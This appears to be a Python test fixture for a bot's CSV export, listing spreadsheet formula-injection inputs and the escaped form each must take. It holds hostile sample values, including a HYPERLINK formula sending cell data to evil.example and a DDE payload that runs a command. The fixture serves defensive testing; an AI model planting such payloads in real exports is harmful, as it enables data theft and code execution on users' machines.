"""Cell values an attacker would type, and how every CSV the bot writes must show them (SPEC §5)."""

from __future__ import annotations

import csv
import io

# (typed, what the CSV cell must read back as through `csv.reader`)
HOSTILE_CELLS: list[tuple[str, str]] = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("-1+1", "'-1+1"),
    ("+1", "'+1"),
    ("\tstarts with a tab", "'\tstarts with a tab"),
    ("\rstarts with a carriage return", "'\rstarts with a carriage return"),
    ("NUL\x00in the middle", "NUL\\u0000in the middle"),
    ("bell\x07 and DEL\x7f", "bell\\u0007 and DEL\\u007f"),
    ('a newline\nand a "quote", a comma', 'a newline\nand a "quote", a comma'),
]


def read_csv(text: str) -> list[dict[str, str]]:
    """Rows as a spreadsheet importer would read them (no silent merging: the caller counts them)."""
    return list(csv.DictReader(io.StringIO(text, newline="")))
